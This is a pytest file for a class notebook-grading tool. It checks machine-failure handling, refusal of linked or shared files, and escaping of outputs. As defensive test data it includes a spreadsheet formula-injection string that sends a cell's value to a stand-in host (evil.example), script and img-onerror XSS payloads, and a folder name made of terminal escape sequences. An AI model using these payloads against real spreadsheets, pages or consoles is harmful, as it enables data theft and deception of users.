"""Grading a class when a student's files, or the machine, misbehave: a failure of the machine is never a score,
only a student's own files are graded, one student never stops the batch, and every output is safe to open.

The batch tests grade real notebooks (lab 2's, a few seconds each), as few as the properties need: one class run
(module fixture) carries the links, the two copies and the odd folder names; the nbgrader course carries the
machine's failures.  What is about formatting is tested on the gradebook's functions with ``Row`` objects.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import threading
import time
from pathlib import Path

import pytest
from lab_grading import LABS, SOLUTIONS, sandbox_processes
from test_class_grading import LAB2, _cli, _nbgrader_course, _rows, needs_nbgrader

from pipeline_kit.cli import main
from pipeline_kit.grading import classlist, gradebook
from pipeline_kit.grading.batch import GRADED, NOT_GRADED, REFUSED, Attempt, Options, Row, _outcome
from pipeline_kit.grading.classlist import printable

CR_NAME = "ev\r\x1b[2K\x1b[1Aeve  lab02_timelines  20 of 20"  # a folder name that would rewrite its console line
ODD_NAME = os.fsdecode(b"\xff\xfeodd")  # a folder name that is not UTF-8


def _kill_grades(suffix: str, times: int, sig: int) -> tuple[threading.Event, list[int]]:
    """Kill the first ``times`` grade processes of the notebook whose path ends in ``suffix``, as soon as each
    starts: a machine failure from outside the grade (the OOM killer, an operator's kill), which nothing in a
    notebook causes.  Returns the event that stops the watch and the pids killed."""
    stop, killed = threading.Event(), []
    want = os.fsencode(suffix)

    def watch() -> None:
        while not stop.is_set() and len(killed) < times:
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
                except OSError:
                    continue
                if argv[1:4] == [b"-m", b"pipeline_kit", b"grade"] and argv[4].endswith(want) and \
                        int(pid) not in killed and len(killed) < times:
                    killed.append(int(pid))
                    try:
                        os.kill(int(pid), sig)
                    except ProcessLookupError:
                        pass
            time.sleep(0.01)
    threading.Thread(target=watch, daemon=True).start()
    return stop, killed


# -- 1. a failure of the machine is never a score ---------------------------------------------------------------

@needs_nbgrader
def test_a_failed_machine_is_not_graded_and_never_a_score(tmp_path):
    """alice's first grade process is killed (SIGTERM) and her retry grades her; both of dave's are killed
    (SIGKILL): his row is not graded, nbgrader's database gets nothing for him, and the batch exits 3."""
    course = _nbgrader_course(tmp_path, {"alice": SOLUTIONS / f"{LAB2}.ipynb", "dave": SOLUTIONS / f"{LAB2}.ipynb"})
    watches = [_kill_grades(f"/alice/lab02/{LAB2}.ipynb", 1, signal.SIGTERM),
               _kill_grades(f"/dave/lab02/{LAB2}.ipynb", 2, signal.SIGKILL)]
    book = tmp_path / "book"
    try:
        proc = _cli("grade", "--nbgrader", course, "--gradebook", book, "--jobs", "2", cwd=tmp_path)
    finally:
        for stop, _ in watches:
            stop.set()
    assert [len(killed) for _, killed in watches] == [1, 2]
    assert proc.returncode == 3, proc.stderr
    assert "Traceback" not in proc.stderr
    assert ("1 graded, 0 refused, 1 not graded (the machine failed, not the notebook: rerun them; nothing was "
            "written into nbgrader's gradebook.db for them)") in proc.stdout
    assert "nbgrader: dave lab02: not graded (the grade process was ended by SIGKILL" in proc.stderr
    rows = _rows(book)
    dave, alice = rows["dave", LAB2], rows["alice", LAB2]
    assert dave["status"] == NOT_GRADED and dave["score"] is None and "checks" not in dave
    assert dave["error"] == "the grade process was ended by SIGKILL, not by the batch (tried twice)"
    assert alice["status"] == GRADED and alice["score"] == 20
    with open(book / "grades.csv", newline="") as fh:
        table = {r["student"]: r for r in csv.DictReader(fh)}
    assert table["dave"]["score"] == "" and table["dave"]["status"] == NOT_GRADED
    assert "machine failed, not your notebook" in (book / "feedback" / "dave" / f"{LAB2}.html").read_text()
    from nbgrader.api import Gradebook, MissingEntry
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        with pytest.raises(MissingEntry):
            gb.find_submission("lab02", "dave")
        assert gb.find_submission_notebook(LAB2, "lab02", "alice").score == 20
    assert sandbox_processes() == []


def _attempt(code: int, *errors: str, out: str = "", timed_out: bool = False) -> Attempt:
    return Attempt(code, list(errors), out, timed_out, 5.0)


def test_how_a_grade_process_ended_decides_the_row():
    """Exit 0 with a report is a grade, exit 2 the notebook's refusal; exit 3, a signal, a traceback or a report
    that cannot be read are the machine's (retried); the batch's own end of a stuck grade is not retried."""
    o = Options(60, 1800, None, 1)
    report = json.dumps({"score": 1, "max_score": 2, "checks": []})
    assert _outcome(_attempt(0, out=report), o)[:2] == (GRADED, "")
    assert _outcome(_attempt(0, out=report[:10]), o)[:2] == (NOT_GRADED, "the grader's report could not be read")
    assert _outcome(_attempt(2, "python -m pipeline_kit grade: error: x.ipynb: not a pipeline-kit lab"), o)[:2] == (
        REFUSED, "x.ipynb: not a pipeline-kit lab")
    assert _outcome(_attempt(3, "python -m pipeline_kit grade: not graded: the kernel did not start"), o)[:2] == (
        NOT_GRADED, "the kernel did not start")
    assert _outcome(_attempt(-9), o)[1] == "the grade process was ended by SIGKILL, not by the batch"
    assert _outcome(_attempt(143, "python -m pipeline_kit: interrupted"), o)[1].startswith("the grade process was "
                                                                                            "ended by SIGTERM")
    assert _outcome(_attempt(1, "Traceback (most recent call last):", "MemoryError"), o)[0] == NOT_GRADED
    stuck = _attempt(-15, timed_out=True)
    assert _outcome(stuck, o)[0] == NOT_GRADED and "outlived --total-timeout" in _outcome(stuck, o)[1]
    assert stuck.retry is False


# -- one class run for 2 (own files), 3 (two copies), 4 (names) ----------------------------------------------------

@pytest.fixture(scope="module")
def odd_class(tmp_path_factory):
    """alice: lab 2's model answer; copycat: a link to alice's; mallory: a link into the kit's solutions/; hal: a
    hard link to a file outside the class; linked: a student's folder that is a link to alice's; bob: the untouched
    lab twice (the copy older); two folders with odd names (a carriage return and ANSI escapes; bytes that are not
    UTF-8), the untouched lab each.  Four real grades."""
    tmp = tmp_path_factory.mktemp("odd")
    cls = tmp / "class"
    for who in ("alice", "copycat", "mallory", "hal", "bob", CR_NAME, ODD_NAME):
        (cls / who).mkdir(parents=True)
    shutil.copy(SOLUTIONS / f"{LAB2}.ipynb", cls / "alice")
    (cls / "copycat" / f"{LAB2}.ipynb").symlink_to(f"../alice/{LAB2}.ipynb")
    (cls / "mallory" / f"{LAB2}.ipynb").symlink_to(SOLUTIONS / f"{LAB2}.ipynb")
    shutil.copy(SOLUTIONS / f"{LAB2}.ipynb", tmp / "elsewhere.ipynb")
    os.link(tmp / "elsewhere.ipynb", cls / "hal" / f"{LAB2}.ipynb")
    (cls / "linked").symlink_to("alice")
    for who in ("bob", CR_NAME, ODD_NAME):
        shutil.copy(LABS / f"{LAB2}.ipynb", cls / who)
    copy = cls / "bob" / f"{LAB2} (copy).ipynb"
    shutil.copy(SOLUTIONS / f"{LAB2}.ipynb", copy)  # (the model answer, but older: not what bob handed in last)
    os.utime(copy, (time.time() - 3600,) * 2)
    book = tmp / "book"
    proc = _cli("grade", cls, "--gradebook", book, "--jobs", "2", text=False)
    raw = (proc.stdout, proc.stderr)
    proc.stdout, proc.stderr = (b.decode("utf-8") for b in raw)  # (valid UTF-8, whatever the folders' names)
    return cls, book, proc, raw


def test_only_a_students_own_files_are_graded(odd_class):
    cls, book, proc, raw = odd_class
    assert proc.returncode == 0, proc.stderr
    rows = _rows(book)
    assert rows["alice", LAB2]["score"] == 20
    reasons = {"copycat": "is a link (to ../alice/lab02_timelines.ipynb)",
               "mallory": f"is a link (to {SOLUTIONS / LAB2}.ipynb)",
               "hal": "has 2 names on the disk (a hard link)"}
    for who, reason in reasons.items():
        row = rows[who, LAB2]
        assert row["status"] == REFUSED and reason in row["error"] and "only a student's own files" in row["error"]
        assert row["score"] == 0 and row["max_score"] is None and row["seed"] is None and "checks" not in row
        assert reason in proc.stdout
    linked = rows["linked", "linked"]
    assert linked["status"] == REFUSED and "the student's folder" in linked["error"] and "is a link (to alice)" in \
        linked["error"]
    assert reasons["copycat"] in (book / "feedback" / "copycat" / f"{LAB2}.html").read_text()


def test_two_copies_of_one_lab_grade_the_newest_and_say_so(odd_class):
    cls, book, proc, raw = odd_class
    bob = _rows(book)["bob", LAB2]
    assert bob["status"] == GRADED and bob["score"] == 0  # the newest: the untouched lab, not the older model answer
    assert bob["notebook"] == str(cls / "bob" / f"{LAB2}.ipynb")
    assert bob["note"] == (f"2 notebooks for {LAB2}: graded the newest, {LAB2}.ipynb; not graded: "
                           f"{LAB2} (copy).ipynb")
    assert "note: 2 notebooks for lab02_timelines" in proc.stdout and "not graded: lab02_timelines (copy)" in \
        proc.stderr
    assert f"{LAB2} (copy).ipynb" in (book / "feedback" / "bob" / f"{LAB2}.html").read_text()
    assert proc.returncode == 0 and "4 graded, 4 refused, 0 not graded" in proc.stdout  # (the class went on)


def test_names_are_shown_escaped_everywhere(odd_class):
    """The console line of a folder named with \\r and ANSI escapes cannot be rewritten; a name that is not UTF-8
    is graded, and grades.csv, grades.json and its page are written, its bytes shown as \\xff."""
    cls, book, proc, raw = odd_class
    assert proc.returncode == 0 and "Traceback" not in proc.stderr
    for stream in raw:
        assert b"\r" not in stream and b"\x1b" not in stream
    shown, odd = printable(CR_NAME), printable(ODD_NAME)
    assert shown == "ev\\r\\x1b[2K\\x1b[1Aeve  lab02_timelines  20 of 20" and odd == "\\xff\\xfeodd"
    line = next(ln for ln in proc.stderr.splitlines() if shown in ln)
    assert line.endswith(")") and f"{shown}  {LAB2}  0 / 20  (" in line  # its own score, on its own line
    rows = _rows(book)
    assert rows[shown, LAB2]["score"] == 0 and rows[odd, LAB2]["score"] == 0
    assert rows[odd, LAB2]["notebook"] == str(cls / "\\xff\\xfeodd" / f"{LAB2}.ipynb")
    with open(book / "grades.csv", newline="", encoding="utf-8") as fh:
        assert {shown, odd} <= {r["student"] for r in csv.DictReader(fh)}
    pages = [p.read_text(encoding="utf-8") for p in (book / "feedback").glob("*/*.html")]
    assert sum(odd in page for page in pages) == 1 and sum("ev\\r\\x1b[2K" in page for page in pages) == 1
    assert not any("\x1b" in page or "\r" in page for page in pages)


def test_hard_links_between_students_and_links_in_an_nbgrader_course(tmp_path):
    """Two students sharing one file (a hard link) cannot be told apart: both are refused, with the reason.  In
    nbgrader's tree, a linked student folder, a linked assignment folder and a linked notebook are rows too."""
    cls = tmp_path / "class"
    for who in ("ann", "ben"):
        (cls / who).mkdir(parents=True)
    shutil.copy(LABS / f"{LAB2}.ipynb", cls / "ann")
    os.link(cls / "ann" / f"{LAB2}.ipynb", cls / "ben" / f"{LAB2}.ipynb")
    subs = classlist.identify(classlist.from_arguments([str(cls)]), None)
    assert [(s.student, "hard link" in (s.problem or "")) for s in subs] == [("ann", True), ("ben", True)]
    sub = tmp_path / "course" / "submitted"
    for who in ("cat", "dan"):
        (sub / who / "lab02").mkdir(parents=True)
    shutil.copy(LABS / f"{LAB2}.ipynb", sub / "cat" / "lab02")
    (sub / "dan" / "lab02" / f"{LAB2}.ipynb").symlink_to(f"../../cat/lab02/{LAB2}.ipynb")
    (sub / "eve").symlink_to("cat")
    (sub / "fay").mkdir()
    (sub / "fay" / "lab02").symlink_to("../cat/lab02")
    subs = {s.student: s for s in classlist.identify(classlist.from_nbgrader(str(tmp_path / "course"), None), None)}
    assert subs["cat"].problem is None and subs["cat"].lab == LAB2
    assert "the notebook" in subs["dan"].problem and "is a link" in subs["dan"].problem
    assert "the student's folder" in subs["eve"].problem and subs["eve"].assignment is None
    assert "the folder" in subs["fay"].problem and "is a link (to ../cat/lab02)" in subs["fay"].problem


def test_printable_names():
    assert printable("张三") == "张三" and printable("O'Brien \\ co") == "O'Brien \\ co"
    assert printable("a\rb\x1b[2K\u202ec\x85") == "a\\rb\\x1b[2K\\u202ec\\u0085"
    assert printable(os.fsdecode(b"x\xff")) == "x\\xff"
    assert printable(printable("a\rb\udcff")) == printable("a\rb\udcff")  # idempotent: identity survives a merge


# -- 4. outputs safe to open (gradebook functions, Row objects) ---------------------------------------------------

EVIL = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _graded(student: str = "alice", lab: str = LAB2, feedback: str = "off by one", question: str = "m042_main",
            check: str = "m042_main_peak") -> Row:
    report = {"score": 1.5, "max_score": 2, "questions": {question: {"points": 1.5, "max_points": 2}},
              "checks": [{"name": check, "points": 1.5, "max_points": 2, "feedback": feedback}], "sandbox": None,
              "shared_runs": []}
    return Row(student, lab, f"class/{student}/{lab}.ipynb", 1234, 3.0, report)


def _formula(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` (the OWASP rule's first characters)."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_cells_never_run_as_formulas():
    rows = [_graded(FORMULA, question=f"{FORMULA}_main"), _graded("-alice"), _graded("@bob"), _graded("\tcat"),
            Row("+dan", LAB2, "x", None, error="=1+1", status=REFUSED),
            Row("eve", LAB2, "x", 7, error="-- machine --", status=NOT_GRADED, note="@note")]
    table = list(csv.reader(io.StringIO(gradebook.csv_text(rows))))
    header, body = table[0], table[1:]
    assert f"'{FORMULA}_main" in header and not any(map(_formula, header))
    for row in body:
        assert not any(map(_formula, [row[0], row[1], *row[-3:]])), row
    by_student = {r[0]: dict(zip(header, r)) for r in body}
    assert f"'{FORMULA}" in by_student and "'-alice" in by_student and "'+dan" in by_student
    assert by_student["'-alice"]["seed"] == "1234" and by_student["'-alice"]["score"] == "1.5"
    assert by_student["'+dan"]["score"] == "0" and by_student["'+dan"]["error"] == "'=1+1"
    assert by_student["eve"]["score"] == "" and by_student["eve"]["seed"] == "7"
    assert by_student["eve"]["error"] == "'-- machine --" and by_student["eve"]["note"] == "'@note"
    assert gradebook._number(-1) == "-1" and gradebook._number(-0.5) == "-0.5"  # numbers we format stay numbers


def test_feedback_pages_escape_every_field_and_never_show_the_seed():
    row = _graded("<b>s</b>", "<i>lab</i>", EVIL, "<u>q</u>_main", '<img src=x onerror="alert(1)">')
    row.note = "<s>note</s>"
    page = gradebook.feedback_page(row, {'<img src=x onerror="alert(1)">'}, course="<em>course</em>")
    for raw in ("<script", "<b>s", "<i>lab", "<img", "<u>", "<U>", "<s>note", "<em>"):
        assert raw not in page, raw
    assert "&lt;script&gt;" in page and "&lt;img src=x" in page and "hidden cases too" in page
    assert "1234" not in page and "seed" not in page
    refused = gradebook.feedback_page(Row("<b>x</b>", LAB2, "x", None, error=EVIL, status=REFUSED), set())
    assert "<script" not in refused and "<b>x" not in refused


# -- gradebook merge checks every slice ---------------------------------------------------------------------------

def _slice(folder: Path, rows: list[Row], k: int = 1, n: int = 1) -> Path:
    gradebook.write(folder, rows, {"shard": {"index": k, "of": n}, "class": [[r.student, r.lab] for r in rows],
                                   "shared_runs": {}})
    return folder


def _merge(capsys, *args) -> tuple[int, str, str]:
    code = main(["gradebook", "merge", *map(str, args)])
    out, err = capsys.readouterr()
    return code, out, err


def _forged(folder: Path, change) -> Path:
    data = json.loads((folder / "grades.json").read_text())
    change(data)
    (folder / "grades.json").write_text(json.dumps(data))
    return folder


def _set(path: str, value):
    """A change to a slice's data: ``rows.0.seed`` = value."""
    def change(data):
        *keys, last = path.split(".")
        target = data
        for k in keys:
            target = target[int(k)] if isinstance(target, list) else target[k]
        target[int(last) if isinstance(target, list) else last] = value
    return change


@pytest.mark.parametrize(("change", "field"), [
    (_set("rows.0.seed", EVIL), "rows'[0]: field 'seed': expected an integer >= 0"),
    (_set("rows.0.score", "20"), "rows'[0]: field 'score'"),
    (_set("rows.0.seconds", float("inf")), "Infinity"),
    (_set("rows.0.checks.0.points", None), "rows'[0]: field 'checks'[0]: field 'points'"),
    (_set("rows.0.checks.0", "m042"), "field 'checks'[0]: expected a JSON object"),
    (_set("rows.0.questions.m042_main", {"points": 1}), "missing field(s) max_points"),
    (_set("rows.0.student", ["alice"]), "rows'[0]: field 'student': expected a string"),
    (_set("rows.0.status", "excellent"), "field 'status': expected one of 'graded', 'refused', 'not graded'"),
    (_set("rows.0.checks", None), "field 'checks'"),
    (_set("rows.1", [1, 2]), "rows'[1]: expected an object"),
    (_set("rows", {"alice": 1}), "field 'rows': expected an array of rows"),
    (_set("class.0", ["alice"]), "field 'class'[0]: expected [student, lab]"),
    (_set("shard", {"index": 3, "of": 2}), "field 'shard': slice 3 of 2"),
    (_set("rows.0.evil", 1), "unknown field(s) 'evil'"),
    (lambda data: data.pop("rows"), "missing field(s) rows"),
])
def test_a_forged_or_malformed_slice_is_refused_in_one_line_leaving_nothing(tmp_path, capsys, change, field):
    good = _slice(tmp_path / "one", [_graded("ann")], 1, 2)
    bad = _forged(_slice(tmp_path / "two", [_graded("ben"), _graded("cat")], 2, 2), change)
    out = tmp_path / "merged"
    code, stdout, err = _merge(capsys, good, bad, "--out", out)
    assert code == 2 and stdout == "" and len(err.strip().splitlines()) == 1, err
    assert "Traceback" not in err and str(bad) in err and field in err, err
    assert not out.exists()


def test_a_merged_slice_is_escaped_in_every_output(tmp_path, capsys):
    """A slice whose texts a forger chose (the schema allows any text) merges; its page escapes them, its CSV
    neutralizes them; and a gradebook from before the status field still merges."""
    forged = _slice(tmp_path / "one", [_graded(FORMULA, feedback=EVIL, question=f"{FORMULA}_main")], 1, 2)
    old = _forged(_slice(tmp_path / "two", [_graded("ben"), Row("cy", LAB2, "x", None, error="not a lab")], 2, 2),
                  lambda d: [(r.pop("status"), r.pop("note")) for r in d["rows"]])
    out = tmp_path / "merged"
    code, stdout, err = _merge(capsys, forged, old, "--out", out)
    assert code == 0 and err == "" and "3 rows of 3 student(s)" in stdout
    rows = _rows(out)
    assert rows["ben", LAB2]["status"] == GRADED and rows["cy", LAB2]["status"] == REFUSED
    page = next((out / "feedback").glob("_HYPERLINK*/*.html")).read_text()
    assert "<script" not in page and "&lt;script&gt;" in page and "1234" not in page
    header, *body = list(csv.reader(io.StringIO((out / "grades.csv").read_text())))
    assert f"'{FORMULA}_main" in header and any(r[0] == f"'{FORMULA}" for r in body)


def test_a_merge_reports_the_rows_not_graded(tmp_path, capsys):
    one = _slice(tmp_path / "one", [_graded("ann"), Row("ben", LAB2, "x", 5, error="the kernel did not start",
                                                          status=NOT_GRADED)])
    code, _, err = _merge(capsys, one, "--out", tmp_path / "merged")
    assert code == 3 and "1 notebook(s) not graded (the machine failed, not the notebook): rerun them: ben" in err
    assert _rows(tmp_path / "merged")["ben", LAB2]["score"] is None
